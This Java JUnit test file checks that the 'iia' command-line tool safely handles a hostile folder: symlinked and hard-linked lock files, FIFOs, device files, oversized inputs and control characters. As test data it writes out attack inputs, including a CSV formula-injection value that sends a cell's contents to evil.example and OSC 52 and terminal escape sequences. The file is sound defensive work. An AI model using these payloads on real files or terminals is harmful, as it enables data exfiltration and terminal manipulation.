package dev.iia;

import static dev.iia.TestAssessments.PARTIAL;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.iia.assessment.Assessment;
import dev.iia.assessment.AssessmentFile;
import dev.iia.assessment.AssessmentWriter;
import dev.iia.cli.Cli;
import dev.iia.cli.ExitCodes;
import dev.iia.cli.Main;
import dev.iia.io.FileAccessException;
import dev.iia.io.LockFile;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.io.RandomAccessFile;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A folder someone else sent, with every trap of issue 8 in it: each test is one reproduction, run
 * against the real commands, checking that nothing is lost, nothing leaks, nothing hangs, and the
 * answer is one line with a documented exit code.
 */
class HostileFolderTest {
    private static final Duration QUICKLY = Duration.ofSeconds(10);
    private static final String SECRET = "root:SECRET-HASH:20228:0:99999:7:::\ndaemon:*:20228:0:99999:7:::\n";

    @TempDir
    Path folder;

    // 1. Planted lock files

    @Test
    void aLockFileLinkedToAnotherFileIsRefusedAndTheFileIsNeitherShownNorTouched() throws IOException {
        Path victim = Files.writeString(folder.resolve("victim.txt"), SECRET);
        Path file = TestAssessments.write(folder, "v.yaml", PARTIAL);
        Files.createSymbolicLink(folder.resolve("v.yaml.lock"), victim);

        Cli.Run run = Cli.runWithInput("q\n", "assess", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.all()).doesNotContain("SECRET").contains("the lock file is a symbolic link");
        assertThat(victim).hasContent(SECRET);
        assertThat(file).hasContent(PARTIAL);
    }

    @Test
    void aLockFileHardLinkedToAnotherFileIsRefusedAndTheFileIsNeitherShownNorTouched() throws IOException {
        Path victim = Files.writeString(folder.resolve("victim.txt"), SECRET);
        Path file = TestAssessments.write(folder, "v.yaml", PARTIAL);
        Files.createLink(folder.resolve("v.yaml.lock"), victim);

        Cli.Run run = Cli.runWithInput("q\n", "assess", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.all()).doesNotContain("SECRET").contains("has other names (hard links)");
        assertThat(victim).hasContent(SECRET);
    }

    @Test
    void aDanglingLockLinkCreatesNothing() throws IOException {
        Path file = TestAssessments.write(folder, "v.yaml", PARTIAL);
        Path target = folder.resolve("created-by-iia.txt");
        Files.createSymbolicLink(folder.resolve("v.yaml.lock"), target);

        Cli.Run run = Cli.runWithInput("q\n", "assess", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(target).doesNotExist();
    }

    @Test
    void aLockFileOfAnotherUserIsLeftAlone() throws Exception {
        Path file = TestAssessments.write(folder, "v.yaml", PARTIAL);
        Path lock = Files.writeString(folder.resolve("v.yaml.lock"), "theirs\n");
        assumeTrue(run("chown", "12345", lock.toString()) == 0, "chown needs root");

        Cli.Run run = Cli.runWithInput("q\n", "assess", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("the lock file belongs to another user");
        assertThat(lock).hasContent("theirs\n");
    }

    @Test
    void anOldLockFileIsTakenOverWithoutShowingWhatItHolds() throws IOException {
        Path file = TestAssessments.write(folder, "v.yaml", PARTIAL);
        Files.writeString(folder.resolve("v.yaml.lock"), "SECRET \u001b]52;c;aGk=\u0007\n");

        Cli.Run run = Cli.runWithInput("q\n", "assess", file.toString());

        assertThat(run.code()).isZero();
        assertThat(run.all()).doesNotContain("SECRET").doesNotContain("\u001b").contains("(no details recorded)");
    }

    // 2. A brief written over its own assessment

    @Test
    void aBriefIsNeverWrittenOverItsAssessmentThroughALinkedFolder() throws IOException {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Files.createSymbolicLink(folder.resolve("here"), folder);

        Cli.Run run = Cli.run("brief", file.toString(), "-o", folder.resolve("here/A.yaml").toString(), "--force");

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("is the assessment itself");
        assertThat(file).hasContent(PARTIAL);
    }

    @Test
    void aBriefIsNeverWrittenOverItsAssessmentNamedThroughALink() throws IOException {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Path link = Files.createSymbolicLink(folder.resolve("L.yaml"), file);

        Cli.Run run = Cli.run("brief", link.toString(), "-o", file.toString(), "--force");

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(file).hasContent(PARTIAL);
    }

    @Test
    void aBriefIsNeverWrittenOverItsAssessmentByAHardLink() throws IOException {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Path other = Files.createLink(folder.resolve("B.yaml"), file);

        Cli.Run run = Cli.run("brief", file.toString(), "-o", other.toString(), "--force");

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(file).hasContent(PARTIAL);
    }

    @Test
    void assessNeverWritesItsBriefOverTheAssessment() throws IOException {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);

        Cli.Run run = Cli.runWithInput("q\n", "assess", "--brief", file.toString(), "--force", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("iia never writes over what it reads");
        assertThat(file).hasContent(PARTIAL);
    }

    // 3. Special files are never replaced

    @Test
    void forceNeverReplacesACharacterDevice() throws Exception {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Path device = folder.resolve("mynull");
        assumeTrue(run("mknod", device.toString(), "c", "1", "3") == 0, "mknod needs root");

        Cli.Run run = Cli.run("brief", file.toString(), "-o", device.toString(), "--force");

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("not a regular file (a character device)");
        assertThat(Files.isRegularFile(device, LinkOption.NOFOLLOW_LINKS)).isFalse();
        assertThat(Files.exists(device)).isTrue();
    }

    @Test
    void forceNeverReplacesAFifoOrALink() throws Exception {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Path fifo = mkfifo(folder.resolve("out.md"));
        Path victim = Files.writeString(folder.resolve("victim.md"), SECRET);
        Path link = Files.createSymbolicLink(folder.resolve("link.md"), victim);

        Cli.Run toFifo = Cli.run("brief", file.toString(), "-o", fifo.toString(), "--force");
        Cli.Run toLink = Cli.run("brief", file.toString(), "-o", link.toString(), "--force");

        assertThat(toFifo.code()).isEqualTo(ExitCodes.FILES);
        assertThat(toFifo.err()).contains("not a regular file (a FIFO)");
        assertThat(toLink.code()).isEqualTo(ExitCodes.FILES);
        assertThat(toLink.err()).contains("is a symbolic link");
        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(victim).hasContent(SECRET);
    }

    // 4. A linked FILE

    @Test
    void assessThroughALinkUpdatesTheRealFileAndKeepsTheLink() throws IOException {
        Path real = TestAssessments.write(folder, "real/A.yaml", PARTIAL);
        Path link = Files.createSymbolicLink(folder.resolve("A.yaml"), real);

        Cli.Run run = Cli.runWithInput("n\n3\n\n\nq\n", "assess", link.toString());

        assertThat(run.code()).isZero();
        assertThat(Files.isSymbolicLink(link)).isTrue();
        assertThat(Files.readString(real)).contains("access-common-protocol").isNotEqualTo(PARTIAL);
        assertThat(TestAssessments.load(folder, "real/A.yaml", Files.readString(real)).assessment().answers()).hasSize(5);
    }

    @Test
    void theLockBelongsToTheFileNotTheName() throws IOException {
        Path real = TestAssessments.write(folder, "A.yaml", PARTIAL);
        Path link = Files.createSymbolicLink(folder.resolve("L.yaml"), real);

        try (LockFile first = LockFile.acquire(real)) {
            assertThat(first.path()).exists();
            assertThatThrownBy(() -> LockFile.acquire(link)).isInstanceOf(FileAccessException.class)
                    .hasMessageContaining("already open in another iia session");
            assertThatThrownBy(() -> LockFile.acquire(folder.resolve("./sub/../A.yaml"))).isInstanceOf(FileAccessException.class);
        }
    }

    // 5. The file swapped mid-session

    @Test
    void aFileSwappedForAFifoMidSessionNeitherHangsNorLosesTheAnswer() throws Exception {
        Path file = folder.resolve("x.yaml");
        AssessmentFile saved = AssessmentFile.created(file);
        Assessment first = Fixtures.assessment("q1", "negative");
        Assessment second = Fixtures.assessment("q1", "negative", "q2", "positive");
        saved.save(first);
        Files.delete(file);
        mkfifo(file);

        assertTimeoutPreemptively(QUICKLY, () -> assertThatThrownBy(() -> saved.save(second))
                .isInstanceOf(FileAccessException.class)
                .hasMessageContaining("is no longer a regular file")
                .hasMessageContaining("x-rescued.yaml"));
        assertThat(folder.resolve("x-rescued.yaml")).hasBinaryContent(AssessmentWriter.bytes(second));
    }

    @Test
    void aFileSwappedForAHugeFileMidSessionIsNotReadAndTheAnswerIsKept() throws Exception {
        Path file = folder.resolve("x.yaml");
        AssessmentFile saved = AssessmentFile.created(file);
        Assessment second = Fixtures.assessment("q1", "negative", "q2", "positive");
        saved.save(Fixtures.assessment("q1", "negative"));
        Files.delete(file);
        try (RandomAccessFile huge = new RandomAccessFile(file.toFile(), "rw")) {
            huge.setLength(3L << 30);
        }

        assertTimeoutPreemptively(QUICKLY, () -> assertThatThrownBy(() -> saved.save(second))
                .isInstanceOf(FileAccessException.class).hasMessageContaining("x-rescued.yaml"));
        assertThat(Files.size(file)).isEqualTo(3L << 30);
        assertThat(folder.resolve("x-rescued.yaml")).hasBinaryContent(AssessmentWriter.bytes(second));
    }

    // 6. What iia writes, it reads back

    @Test
    void aRationaleLongerThanIiaReadsIsRefusedInTheDialogueAndTheFileStaysReadable() throws IOException {
        Path file = TestAssessments.write(folder, "x.yaml", PARTIAL);
        String half = "word ".repeat(120_000);

        Cli.Run run = Cli.runWithInput("n\n3\n\n" + half + "\n" + half + "\n\nq\n", "assess", file.toString());

        assertThat(run.code()).isZero();
        assertThat(run.out()).contains("iia reads back at most 1,048,576 in one text. This change was not kept.");
        assertThat(Cli.run("validate", file.toString()).code()).isZero();
    }

    // 7. Content of files that are not iia files is never shown

    @Test
    void aRubricReferenceToASystemFileShowsNoneOfIt() throws IOException {
        Files.writeString(folder.resolve("shadow"), SECRET);
        Path file = TestAssessments.write(folder, "s.yaml", PARTIAL.replace("rubric: iwn@1.0", "rubric: ./shadow"));

        Cli.Run run = Cli.run("validate", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(run.err()).doesNotContain("SECRET").doesNotContain("root:").contains("this is not a rubric");
    }

    @Test
    void aLinkToASystemFileInAScoredFolderShowsNoneOfItInAnyFormat() throws IOException {
        Path secret = Files.writeString(folder.resolve("shadow"), SECRET);
        Path set = Files.createDirectories(folder.resolve("set"));
        Files.createSymbolicLink(set.resolve("x.yaml"), secret);

        for (String format : new String[] {"table", "json", "csv", "markdown"}) {
            Cli.Run run = Cli.run("score", "--format", format, set.toString());
            assertThat(run.code()).isEqualTo(ExitCodes.INVALID);
            assertThat(run.all()).doesNotContain("SECRET").doesNotContain("root:").contains("this is not an iia assessment");
        }
        assertThat(Cli.run("rubric", "lint", secret.toString()).all()).doesNotContain("SECRET").contains("this is not a rubric");
    }

    // 9. Control characters

    @Test
    void escapedControlCharactersAreRefusedWhereTheyAre() throws IOException {
        Path osc = TestAssessments.write(folder, "osc.yaml", PARTIAL.replace("title: Network Fee Act",
                "title: \"Fee \\e]52;c;aGVsbG8=\\a Act\""));
        Path nul = TestAssessments.write(folder, "nul.yaml", PARTIAL.replace("jurisdiction: Freedonia", "jurisdiction: \"Free\\u0000donia\""));
        Path key = TestAssessments.write(folder, "key.yaml", PARTIAL.replace("  jurisdiction:", "  \"\\x1b[2J\":"));

        assertThat(Cli.run("validate", osc.toString()).err())
                .isEqualTo(osc + ":3:10: this value holds the control character U+001B (escape); iia files hold text only (tabs and line breaks are fine)\n");
        assertThat(Cli.run("validate", nul.toString()).err()).startsWith(nul + ":4:17: this value holds the control character U+0000 (NUL)");
        Cli.Run run = Cli.run("score", "--explain", key.toString());
        assertThat(run.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(run.err()).startsWith(key + ":4:3: this key holds the control character U+001B (escape)");
        assertThat(run.all()).doesNotContain("\u001b");
    }

    @Test
    void aFileNameWithControlCharactersIsReportedEscapedAndNotRead() throws IOException {
        Path set = Files.createDirectories(folder.resolve("set"));
        TestAssessments.write(set, "\u001b[31mred.yaml", PARTIAL);
        TestAssessments.write(set, "ok.yaml", PARTIAL);

        Cli.Run run = Cli.run("score", set.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.all()).doesNotContain("\u001b").contains("\\e[31mred.yaml: skipped: its name holds control characters");
        assertThat(run.out()).contains("ok.yaml");
    }

    @Test
    void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralised() throws IOException {
        Path file = TestAssessments.write(folder, "x.yaml", PARTIAL.replace("title: Network Fee Act",
                "title: \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1)\""));

        Cli.Run run = Cli.run("score", "--format", "csv", file.toString());

        assertThat(run.out()).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",").doesNotContain(",\"=HYPERLINK");
    }

    // 10. FIFOs never hang

    @Test
    void aFifoAsFileIsRefusedAtOnceByEveryCommand() throws Exception {
        Path fifo = mkfifo(folder.resolve("p.yaml"));
        Path other = TestAssessments.write(folder, "x.yaml", PARTIAL);

        assertTimeoutPreemptively(QUICKLY, () -> {
            for (String[] args : new String[][] {
                {"assess", fifo.toString()}, {"diff", fifo.toString(), other.toString()}, {"rubric", "lint", fifo.toString()},
                {"validate", fifo.toString()}, {"brief", fifo.toString()}, {"score", fifo.toString()}}) {
                Cli.Run run = Cli.runWithInput("q\n", args);
                assertThat(run.code()).as(String.join(" ", args)).isEqualTo(ExitCodes.FILES);
                assertThat(run.err()).as(String.join(" ", args)).contains("not a regular file (a FIFO)");
            }
        });
    }

    @Test
    void aFifoRubricIsNotARegularFileRatherThanNotFound() throws Exception {
        mkfifo(folder.resolve("r.yaml"));
        Path file = TestAssessments.write(folder, "x.yaml", PARTIAL.replace("rubric: iwn@1.0", "rubric: ./r.yaml"));

        Cli.Run run = assertTimeoutPreemptively(QUICKLY, () -> Cli.run("validate", file.toString()));

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("r.yaml: cannot read: not a regular file (a FIFO)");
    }

    // 12. Bounded work

    @Test
    void fourMegabytesOfUnknownIdsEndQuicklyInAHundredProblems() throws IOException {
        Path many = unknownIds("many.yaml", 320_000);
        Path some = unknownIds("some.yaml", 9_000);

        Cli.Run refused = assertTimeoutPreemptively(Duration.ofSeconds(3), () -> Cli.run("validate", many.toString()));
        Cli.Run listed = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Cli.run("validate", some.toString()));

        assertThat(refused.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(refused.err()).contains("this map has more than 10,000 entries").hasLineCount(1);
        assertThat(listed.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(listed.err().lines()).hasSizeLessThanOrEqualTo(101).last().asString().contains("more problems; fix these first");
    }

    @Test
    void manyListsUnderTheEntryLimitAreRefusedByTheirTotal() throws IOException {
        StringBuilder yaml = new StringBuilder("rubric: iwn\nproposal: {title: x}\ncontext:\n");
        for (int i = 0; i < 12; i++) {
            yaml.append("  - [").append("1, ".repeat(9_000)).append("1]\n");
        }
        Path file = Files.writeString(folder.resolve("lists.yaml"), yaml);

        Cli.Run run = assertTimeoutPreemptively(QUICKLY, () -> Cli.run("validate", file.toString()));

        assertThat(run.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(run.err()).contains("the file holds more than 100,000 values").hasLineCount(1);
    }

    @Test
    void aMillionItemListIsRefusedInASmallHeap() throws Exception {
        Path list = Files.writeString(folder.resolve("list.yaml"), "rubric: iwn\nproposal: {title: x}\nauthors: ["
                + "a, ".repeat(1_000_000) + "a]\n");
        Path ids = unknownIds("ids.yaml", 320_000);

        for (Path file : new Path[] {list, ids}) {
            Process process = new ProcessBuilder(java(), "-Xmx64m", "-cp", System.getProperty("java.class.path"),
                    Main.class.getName(), "validate", file.toString()).redirectErrorStream(true).start();
            String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(process.waitFor()).as(output).isEqualTo(ExitCodes.INVALID);
            assertThat(output).contains("has more than 10,000 entries").doesNotContain("Exception").doesNotContain("Error");
        }
    }

    // 13. Every Throwable ends in one line

    @Test
    void anErrorEscapingACommandIsOneLineAndExit70() {
        InputStream overflowing = new InputStream() {
            @Override
            public int read() {
                throw new StackOverflowError();
            }
        };
        StringWriter err = new StringWriter();

        int code = Main.run(new String[] {"assess", folder.resolve("x.yaml").toString()}, overflowing,
                new PrintWriter(new StringWriter()), new PrintWriter(err), Map.of());

        assertThat(code).isEqualTo(ExitCodes.INTERNAL);
        assertThat(err.toString()).hasLineCount(1).startsWith("iia: ran out of stack (StackOverflowError)")
                .contains("please report it");
    }

    @Test
    void endlessInputWithoutLineBreaksEndsTheDialogue() {
        InputStream zeros = new InputStream() {
            @Override
            public int read() {
                return 0;
            }

            @Override
            public int read(byte[] buffer, int offset, int length) {
                java.util.Arrays.fill(buffer, offset, offset + length, (byte) 0);
                return length;
            }
        };
        StringWriter out = new StringWriter();

        int code = assertTimeoutPreemptively(QUICKLY, () -> Main.run(new String[] {"assess", folder.resolve("x.yaml").toString()},
                zeros, new PrintWriter(out), new PrintWriter(new StringWriter()), Map.of()));

        assertThat(code).isZero();
        assertThat(out.toString()).contains("a line of input is longer than 1048576 characters; input stopped");
    }

    // 14. The smaller ones

    @Test
    void theSameFileTwiceGetsItsBrief() throws IOException {
        Path file = TestAssessments.write(folder, "A.yaml", PARTIAL);

        Cli.Run run = Cli.run("brief", file.toString(), file.toString(), folder + "/./A.yaml");

        assertThat(folder.resolve("A.md")).exists();
        assertThat(run.err()).isEqualTo("iia: wrote " + folder.resolve("A.md") + "\n");
    }

    @Test
    void aDanglingOrigLinkDoesNotBlockSaving() throws IOException {
        Path file = TestAssessments.write(folder, "x.yaml", PARTIAL);
        Path planted = folder.resolve("planted");
        Files.createSymbolicLink(folder.resolve("x.yaml.orig"), planted);

        Cli.Run run = Cli.runWithInput("n\n3\n\n\nq\n", "assess", file.toString());

        assertThat(run.code()).isZero();
        assertThat(folder.resolve("x.yaml.orig.2")).hasContent(PARTIAL);
        assertThat(planted).doesNotExist();
    }

    @Test
    void aDanglingYamlLinkInAFolderIsReported() throws IOException {
        Path set = Files.createDirectories(folder.resolve("set"));
        Files.createSymbolicLink(set.resolve("gone.yaml"), folder.resolve("nowhere.yaml"));

        Cli.Run run = Cli.run("score", set.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.FILES);
        assertThat(run.err()).contains("gone.yaml: skipped: a symbolic link to a missing file");
    }

    @Test
    void syntaxErrorsNameNoJavaClass() throws IOException {
        Path complexKey = Files.writeString(folder.resolve("k.yaml"), "rubric: iwn\n? {a: b}\n: c\n");
        Path binary = Files.writeString(folder.resolve("b.yaml"), "rubric: iwn\nproposal: !!binary \"@@@\"\n");

        assertThat(Cli.run("validate", complexKey.toString()).err())
                .isEqualTo(complexKey + ":2:3: a key must be plain text, not a list or a map\n");
        assertThat(Cli.run("validate", binary.toString()).err())
                .isEqualTo(binary + ":2:11: tags such as !!binary are not supported; write the value as plain YAML\n");
    }

    @Test
    void utf16FilesAreCalledUtf16() throws IOException {
        Path file = folder.resolve("u.yaml");
        Files.write(file, ("\uFEFF" + PARTIAL).getBytes(StandardCharsets.UTF_16LE));

        Cli.Run run = Cli.run("validate", file.toString());

        assertThat(run.code()).isEqualTo(ExitCodes.INVALID);
        assertThat(run.err()).isEqualTo(file + ":1:1: this file is UTF-16 text; iia reads UTF-8: save it as UTF-8"
                + " (in most editors: Save with Encoding, UTF-8)\n");
    }

    @Test
    void anAbsurdDateIsRefused() throws IOException {
        Path number = TestAssessments.write(folder, "n.yaml", PARTIAL.replace("date: \"2026-01-31\"", "date: " + "9".repeat(5_000)));
        Path text = TestAssessments.write(folder, "t.yaml", PARTIAL.replace("date: \"2026-01-31\"", "date: \"" + "9".repeat(5_000) + "-01-01\""));

        assertThat(Cli.run("validate", number.toString()).err()).isEqualTo(number + ":11:7: 'date' must be at most 40 characters long\n");
        assertThat(Cli.run("validate", text.toString()).err()).isEqualTo(text + ":11:7: 'date' must be at most 40 characters long\n");
    }

    @Test
    void jobsAreBounded() {
        Cli.Run run = Cli.run("score", "-j", "2147483647", "assessments");

        assertThat(run.code()).isEqualTo(ExitCodes.USAGE);
        assertThat(run.err()).contains("--jobs: 2147483647 is not between 1 and 256");
    }

    private Path unknownIds(String name, int count) throws IOException {
        StringBuilder yaml = new StringBuilder("rubric: iwn\nproposal: {title: x}\nanswers:\n");
        for (int i = 0; i < count; i++) {
            yaml.append("  q").append(Integer.toString(i, 36)).append(": {}\n");
        }
        return Files.writeString(folder.resolve(name), yaml);
    }

    private static Path mkfifo(Path path) throws Exception {
        assertThat(run("mkfifo", path.toString())).isZero();
        return path;
    }

    private static int run(String... command) throws Exception {
        Process process = new ProcessBuilder(command).redirectErrorStream(true).start();
        process.getInputStream().transferTo(new ByteArrayOutputStream());
        return process.waitFor();
    }

    private static String java() {
        return ProcessHandle.current().info().command().orElse("java");
    }
}
